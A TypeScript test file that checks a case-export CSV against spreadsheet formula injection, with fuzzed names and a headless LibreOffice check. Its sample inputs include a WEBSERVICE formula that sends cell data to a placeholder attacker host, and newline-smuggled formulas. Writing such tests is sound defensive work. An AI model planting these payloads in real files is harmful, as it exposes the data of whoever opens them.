import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { casesCsv } from '../../bot/desk/case-export.js';
import { triageCase } from '../storage/triage-case-fixture.js';
import { byScale, reportDrill } from './drill-scale.js';

/** What a spreadsheet runs, or reads as the start of a new row, when a cell begins with it. */
const FORMULA_START = /^[=+\-@\t\r\n]/;

/** The audit's names: each either split its row or became a formula in LibreOffice Calc. */
const CRAFTED_NAMES = [
  'Contoso\r=WEBSERVICE("http://attacker.example/?"&A1)',
  'Fabrikam\n=HYPERLINK("http://attacker.example","click")',
  'Northwind\r\n=1+1',
  '=1+1',
  '+SUM(1,2)',
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  'Tailspin "Toys"\n@cmd',
  ' =1+1',
];

function seededRandom(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state * 1_103_515_245 + 12_345) % 2_147_483_648;
    return state / 2_147_483_648;
  };
}

const PIECES = ['=', '+', '-', '@', '\t', '\r', '\n', '\r\n', '"', ',', ';', "'", ' ', 'A1', 'cmd|', '1+1', 'Contoso', 'è', '\u2028'];

function randomName(random: () => number): string {
  const length = 1 + Math.floor(random() * 8);
  return Array.from({ length }, () => PIECES[Math.floor(random() * PIECES.length)]).join('');
}

function casesNamed(names: readonly string[]) {
  return names.map((name, index) =>
    triageCase({ id: `UA-${String(index).padStart(6, '0')}`, customer: name, agentName: name, ticket: name, tenant: 'contoso.com' }),
  );
}

function parsedRows(csv: string): string[][] {
  return parse(csv.replace(/^\uFEFF/, ''), { relax_column_count: false, bom: true }) as string[][];
}

describe('the CSV export under formula injection', () => {
  it('keeps one row a case, and no cell a spreadsheet would run, for the audit names and random ones', () => {
    const random = seededRandom(26);
    const names = [...CRAFTED_NAMES, ...Array.from({ length: byScale(300, 20_000) }, () => randomName(random))];
    const rows = parsedRows(casesCsv(casesNamed(names), 'en'));
    expect(rows).toHaveLength(names.length + 1);
    const cells = rows.slice(1).flat();
    const runnable = cells.filter((cell) => FORMULA_START.test(cell.trimStart()) || /^[\r\n]/.test(cell));
    expect(runnable).toEqual([]);
    // Every case's row is its own: the id column reads back in order.
    expect(rows.slice(1).map((row) => row[0])).toEqual(names.map((_name, index) => `UA-${String(index).padStart(6, '0')}`));
    reportDrill('csv injection', { names: names.length, rows: rows.length - 1, runnableCells: runnable.length });
  });

  it.each([
    ['Contoso\r=1+1', 'Contoso =1+1'],
    ['Fabrikam\n=1+1', 'Fabrikam =1+1'],
    ['Northwind\r\n@cmd', 'Northwind @cmd'],
    ['=1+1', "'=1+1"],
    ['+SUM(1,2)', "'+SUM(1,2)"],
    ['-2+3', "'-2+3"],
    ['@SUM(1)', "'@SUM(1)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "' =1+1"],
    [' =1+1', "' =1+1"],
    ['Tailspin "Toys", Ltd', 'Tailspin "Toys", Ltd'],
    ['Contoso-Fabrikam', 'Contoso-Fabrikam'],
  ])('a customer typed as %j reads back as %j', (typed, read) => {
    const [, row] = parsedRows(casesCsv(casesNamed([typed]), 'en'));
    expect(row?.[2]).toBe(read);
  });

  // Calc opens the export with formula evaluation on, as the audit did (.ci/run installs libreoffice-calc-nogui).
  it('opens in LibreOffice Calc with one row a case and not one formula', () => {
    const folder = mkdtempSync(join(tmpdir(), 'csv-injection-'));
    const csvPath = join(folder, 'cases.csv');
    writeFileSync(csvPath, `\uFEFF${casesCsv(casesNamed(CRAFTED_NAMES), 'en')}`);
    // CSV import options: comma, double quote, UTF-8, from line 1, ..., token 13 "evaluate formulas" on.
    execFileSync(
      'soffice',
      [`-env:UserInstallation=file://${folder}/profile`, '--headless', '--infilter=CSV:44,34,76,1,,1033,false,true,false,false,false,-1,true', '--convert-to', 'fods', '--outdir', folder, csvPath],
      { stdio: 'ignore', timeout: 120_000 },
    );
    const sheet = readFileSync(join(folder, 'cases.fods'), 'utf8');
    expect(sheet.match(/table:formula=/g) ?? []).toEqual([]);
    expect(sheet.match(/<table:table-row[ >]/g)?.length).toBe(CRAFTED_NAMES.length + 1);
  }, 180_000);
});
